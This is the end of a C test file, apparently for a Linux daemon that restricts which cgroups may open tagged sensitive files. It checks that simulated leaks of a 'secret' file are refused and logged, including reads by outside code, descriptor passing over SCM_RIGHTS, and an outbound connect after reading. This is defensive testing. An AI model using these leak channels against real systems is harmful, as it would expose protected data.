	buf[r > 0 ? r : 0] = '\0';
	close(c);
	return buf;
}

/* The test policy plus tagged_readers and trusted_readers lines. */
static int load_readers_policy(struct tn_node *n, const char *mode,
			       const char *extra, char *out, size_t outlen)
{
	char path[400], text[4096];

	snprintf(path, sizeof(path), "%s/readers.conf", n->tmp);
	node_policy_text(n, mode, extra, text, sizeof(text));
	if (write_file(path, text))
		return -1;
	return ctl(n, out, outlen, "policy load %s", path);
}

/* Whether one event line holds every fragment, counting such lines. */
static int count_events(struct tn_node *n, const char *a, const char *b)
{
	static char buf[1 << 20];
	char *line, *save = NULL;
	int k = 0;

	if (node_events(n, buf, sizeof(buf)))
		return -1;
	for (line = strtok_r(buf, "\n", &save); line; line = strtok_r(NULL, "\n", &save))
		k += strstr(line, a) && (!b || strstr(line, b));
	return k;
}

TEST_F_TIMEOUT(node, code_outside_every_workload_reads_tagged_files_unless_tagged_readers_closes_it, 180)
{
	const char *secret = data(&self->n, "secret");
	int refuses = node_refuses_synchronously(&self->n);
	char out[16384], cg[320];

	ASSERT_EQ(lsm_expected(), refuses) TH_LOG("the guest must run this in lsm or fentry mode");

	/* Without the setting: the listed gap, in both modes. */
	EXPECT_EQ(0, in_cgroup(&self->n, self->n.other_cg, cron_job, (void *)secret));
	EXPECT_STREQ("secret\n", listener_got(self->listeners[0]));
	EXPECT_EQ(0, in_cgroup(&self->n, NULL, cron_job, (void *)secret));
	EXPECT_STREQ("secret\n", listener_got(self->listeners[0]));
	EXPECT_TRUE(gap_listed(&self->n, "outsourcing: code run outside every workload"));

	if (!refuses) {
		/* Cgroup mode cannot refuse an open: "workloads" is refused (line 10). */
		EXPECT_EQ(5, load_readers_policy(&self->n, "enforce",
						 "tagged_readers = \"workloads\";\n", out, sizeof(out)));
		EXPECT_NE(NULL, strstr(out, "readers.conf:10: tagged_readers = \"workloads\" needs lsm or fentry mode")) TH_LOG("%s", out);
		EXPECT_NE(NULL, strstr(out, "nothing changed")) TH_LOG("%s", out);
		ASSERT_EQ(0, ctl(&self->n, out, sizeof(out), "status"));
		EXPECT_NE(NULL, strstr(out, "readers:    anyone may open tagged files (tagged_readers = \"anyone\")")) TH_LOG("%s", out);
		/* The operator who knows: loaded, the channel listed open. */
		EXPECT_EQ(0, load_readers_policy(&self->n, "enforce",
						 "tagged_readers = \"workloads-in-lsm-mode\";\n", out, sizeof(out))) TH_LOG("%s", out);
		ASSERT_EQ(0, ctl(&self->n, out, sizeof(out), "status"));
		EXPECT_NE(NULL, strstr(out, "anyone may open tagged files: tagged_readers is not enforced in this mode")) TH_LOG("%s", out);
		EXPECT_NE(NULL, strstr(out, "outsourcing: the policy's tagged_readers = \"workloads-in-lsm-mode\" is not enforced in cgroup mode")) TH_LOG("%s", out);
		EXPECT_EQ(0, in_cgroup(&self->n, self->n.other_cg, cron_job, (void *)secret));
		EXPECT_STREQ("secret\n", listener_got(self->listeners[0]));
		return;
	}

	ASSERT_EQ(0, load_readers_policy(&self->n, "enforce",
					 "tagged_readers = \"workloads\";\n", out, sizeof(out))) TH_LOG("%s", out);
	/* Below trustnoded's cgroup in no workload, and outside it (cron's). */
	EXPECT_EQ(EACCES, in_cgroup(&self->n, self->n.other_cg, cron_job, (void *)secret));
	EXPECT_TRUE(nothing_received(self->listeners[0], 300));
	EXPECT_EQ(EACCES, in_cgroup(&self->n, NULL, cron_job, (void *)secret));
	EXPECT_TRUE(nothing_received(self->listeners[0], 300));
	/* The record names the process, its cgroup and the file's tag. */
	snprintf(cg, sizeof(cg), "\"cgroup\":\"%s\"", self->n.other_cg);
	for (int i = 0; i < 50 && !HAS_EVENT(&self->n, "\"type\":\"tagged-open\"", cg); i++)
		usleep(100 * 1000);
	{
		char comm[64] = "", want[96];
		FILE *f = fopen("/proc/self/comm", "r");

		if (f) {
			if (fgets(comm, sizeof(comm), f))
				comm[strcspn(comm, "\n")] = '\0';
			fclose(f);
		}
		snprintf(want, sizeof(want), "\"comm\":\"%s\"", comm);
		EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"tagged-open\"", "\"decision\":\"deny\"",
				      want, cg, "\"pid\":", "\"file\":\"inode ",
				      "\"labels\":[\"phi\"]", "\"via\":\"open\""));
	}
	{
		char tag[400];

		snprintf(tag, sizeof(tag), "\"tag\":\"%s\"", secret);
		EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"tagged-open\"", tag));
	}
	ASSERT_EQ(0, ctl(&self->n, out, sizeof(out), "status"));
	EXPECT_EQ(NULL, strstr(out, "outsourcing:")) TH_LOG("%s", out);
	EXPECT_NE(NULL, strstr(out, "readers:    tagged files open only to workloads and trusted readers")) TH_LOG("%s", out);
	EXPECT_NE(NULL, strstr(out, "denied_tagged_opens      2")) TH_LOG("%s", out);

	/* A workload still reads, is tainted, and is held as before. */
	EXPECT_EQ(EPERM, ACT(&self->n, self->n.wl_cg, .open = secret, .connect = OUT4));
	EXPECT_STREQ("phi", taint_of(&self->n, "wl"));
	EXPECT_TRUE(nothing_received(self->listeners[0], 300));

	/* Back to "anyone": as before, and the gap is listed again. */
	ASSERT_EQ(0, load_readers_policy(&self->n, "enforce", "", out, sizeof(out))) TH_LOG("%s", out);
	EXPECT_TRUE(gap_listed(&self->n, "outsourcing: code run outside every workload"));
	EXPECT_EQ(0, in_cgroup(&self->n, self->n.other_cg, cron_job, (void *)secret));
	EXPECT_STREQ("secret\n", listener_got(self->listeners[0]));
}

/* The outside process's end: receives one descriptor; 0, or the errno. */
struct fd_pass {
	const char *path;
	int sock[2];
};

static int send_tagged_fd(void *arg)
{
	struct fd_pass *f = arg;
	char c = 'x', cbuf[CMSG_SPACE(sizeof(int))] = { 0 };
	struct iovec iov = { &c, 1 };
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1,
			    .msg_control = cbuf, .msg_controllen = sizeof(cbuf) };
	struct cmsghdr *cm = CMSG_FIRSTHDR(&m);
	int fd = open(f->path, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return errno;
	cm->cmsg_level = SOL_SOCKET;
	cm->cmsg_type = SCM_RIGHTS;
	cm->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(cm), &fd, sizeof(int));
	return sendmsg(f->sock[0], &m, 0) == 1 ? 0 : errno;
}

/* Receives a descriptor on sock: 0 with one, 1 when it was cut (MSG_CTRUNC). */
static int receive_fd(int sock, int *fd)
{
	char c, cbuf[CMSG_SPACE(sizeof(int))] = { 0 };
	struct iovec iov = { &c, 1 };
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1,
			    .msg_control = cbuf, .msg_controllen = sizeof(cbuf) };
	struct cmsghdr *cm;

	*fd = -1;
	if (recvmsg(sock, &m, MSG_CMSG_CLOEXEC) != 1)
		return -1;
	cm = CMSG_FIRSTHDR(&m);
	if (cm && cm->cmsg_type == SCM_RIGHTS)
		memcpy(fd, CMSG_DATA(cm), sizeof(int));
	return *fd < 0 ? 1 : 0;
}

static int open_dir(void *path)
{
	int fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	if (fd < 0)
		return errno;
	close(fd);
	return 0;
}

static int open_many(void *path)
{
	int refused = 0;

	for (int i = 0; i < 60; i++) {
		int fd = open(path, O_RDONLY | O_CLOEXEC);

		if (fd >= 0)
			close(fd);
		else
			refused += errno == EACCES;
	}
	return refused == 60 ? 0 : 1;
}

TEST_F_TIMEOUT(node, trusted_readers_and_the_agent_still_work_under_tagged_readers, 240)
{
	const char *secret = data(&self->n, "secret"), *plain = data(&self->n, "plain");
	char out[16384], extra[2048], reader[320], job[340], outside[320], later[340];
	struct fd_pass fp = { .path = secret };
	int fd, c;

	if (!node_refuses_synchronously(&self->n)) {
		ASSERT_FALSE(lsm_expected());
		SKIP(return, "cgroup mode: tagged_readers is refused here (the test above shows it)");
	}
	/* A reader below trustnoded's cgroup with a job below it, one outside. */
	snprintf(reader, sizeof(reader), "%s/backup", self->n.cgroot);
	snprintf(job, sizeof(job), "%s/job", reader);
	snprintf(outside, sizeof(outside), "%.280s-reader", self->n.cgroot);
	snprintf(later, sizeof(later), "%s/later", self->n.cgroot);
	ASSERT_EQ(0, run_cmd("mkdir -p %s %s", job, outside));
	snprintf(extra, sizeof(extra),
		 "tagged_readers = \"workloads\";\n"
		 "trusted_readers = (\n"
		 "  { name = \"backup\"; cgroup = \"%s\"; },\n"
		 "  { name = \"outside\"; cgroup = \"%s\"; },\n"
		 "  { name = \"later\"; cgroup = \"%s\"; }\n"
		 ");\n", reader, outside, later);
	c = load_readers_policy(&self->n, "enforce", extra, out, sizeof(out));
	EXPECT_EQ(0, c) TH_LOG("%s", out);
	if (c)
		goto out;

	/* Trusted readers (and what runs below them) open, untainted. */
	EXPECT_EQ(0, ACT(&self->n, reader, .open = secret));
	EXPECT_EQ(0, ACT(&self->n, job, .open = secret));
	EXPECT_EQ(0, ACT(&self->n, outside, .open = secret));
	/* A pending reader: refused until its cgroup exists and is seen. */
	EXPECT_EQ(254, ACT(&self->n, self->n.other_cg, .open = secret));
	EXPECT_EQ(0, mkdir(later, 0755));
	for (c = 0; c < 50 && ACT(&self->n, later, .open = secret); c++)
		usleep(100 * 1000);
	EXPECT_EQ(0, ACT(&self->n, later, .open = secret));
	EXPECT_TRUE(HAS_EVENT(&self->n, "\"change\":\"reader-cgroup-appeared\"", "\"trusted_reader\":\"later\""));
	ASSERT_EQ(0, ctl(&self->n, out, sizeof(out), "status"));
	EXPECT_NE(NULL, strstr(out, "reader:     backup ")) TH_LOG("%s", out);
	EXPECT_STREQ("-", taint_of(&self->n, "wl"));

	/* The agent's own work on tagged files: tag, untag, derive, prune. */
	EXPECT_EQ(0, ctl(&self->n, out, sizeof(out), "tag %s --label x", plain)) TH_LOG("%s", out);
	EXPECT_EQ(EACCES, in_cgroup(&self->n, self->n.other_cg, cron_job, (void *)plain));
	EXPECT_EQ(0, ctl(&self->n, out, sizeof(out), "untag %s", plain)) TH_LOG("%s", out);
	EXPECT_EQ(0, ACT(&self->n, self->n.other_cg, .open = plain));
	EXPECT_EQ(0, ACT(&self->n, self->n.wl_cg, .open = secret, .write = data(&self->n, "derived")));
	EXPECT_EQ(EACCES, in_cgroup(&self->n, NULL, cron_job, (void *)data(&self->n, "derived")));
	EXPECT_TRUE(nothing_received(self->listeners[0], 300));
	EXPECT_EQ(0, ctl(&self->n, out, sizeof(out), "tag prune")) TH_LOG("%s", out);
	EXPECT_EQ(0, ctl(&self->n, out, sizeof(out), "tag list")) TH_LOG("%s", out);
	EXPECT_NE(NULL, strstr(out, "derived")) TH_LOG("%s", out);

	/* A tagged directory: its files, and the listing itself. */
	EXPECT_EQ(0, ctl(&self->n, out, sizeof(out), "tag %s --label fin", data(&self->n, "tagged-dir")));
	EXPECT_EQ(EACCES, in_cgroup(&self->n, NULL, cron_job, (void *)data(&self->n, "tagged-dir/old")));
	EXPECT_EQ(EACCES, in_cgroup(&self->n, NULL, open_dir, (void *)data(&self->n, "tagged-dir")));
	EXPECT_EQ(0, ACT(&self->n, reader, .open = data(&self->n, "tagged-dir/old")));

	/* A workload hands a descriptor to code outside: not received. */
	ASSERT_EQ(0, socketpair(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0, fp.sock));
	EXPECT_EQ(0, in_cgroup(&self->n, self->n.wl_cg, send_tagged_fd, &fp));
	EXPECT_EQ(1, receive_fd(fp.sock[1], &fd));
	if (fd >= 0)
		close(fd);
	close(fp.sock[0]);
	close(fp.sock[1]);
	for (c = 0; c < 50 && !HAS_EVENT(&self->n, "\"type\":\"tagged-open\"", "\"via\":\"scm_rights\""); c++)
		usleep(100 * 1000);
	EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"tagged-open\"", "\"via\":\"scm_rights\""));
	EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"tagged-open\"", "\"tag\":\"(derived tag)\""));

	/* A walk over tagged files: a burst of events, the rest counted. */
	EXPECT_EQ(0, in_cgroup(&self->n, NULL, open_many, (void *)secret));
	for (c = 0; c < 50 && !HAS_EVENT(&self->n, "\"type\":\"tagged-opens-unreported\""); c++)
		usleep(100 * 1000);
	EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"tagged-opens-unreported\""));
	EXPECT_LE(count_events(&self->n, "\"type\":\"tagged-open\"", NULL), 60 - 30)
		TH_LOG("the rate limit let most of 60 refusals through as events");

	/* Audit mode: allowed and recorded. */
	EXPECT_EQ(0, load_readers_policy(&self->n, "audit", "tagged_readers = \"workloads\";\n", out, sizeof(out))) TH_LOG("%s", out);
	sleep(1);	/* the event bucket refills */
	EXPECT_EQ(0, ACT(&self->n, self->n.other_cg, .open = secret));
	for (c = 0; c < 50 && !HAS_EVENT(&self->n, "\"type\":\"tagged-open\"", "\"decision\":\"allow-audit\""); c++)
		usleep(100 * 1000);
	EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"tagged-open\"", "\"decision\":\"allow-audit\""));
out:
	/* Outside the node's cgroup: node_destroy would not remove it. */
	rmdir(outside);
}

TEST_HARNESS_MAIN
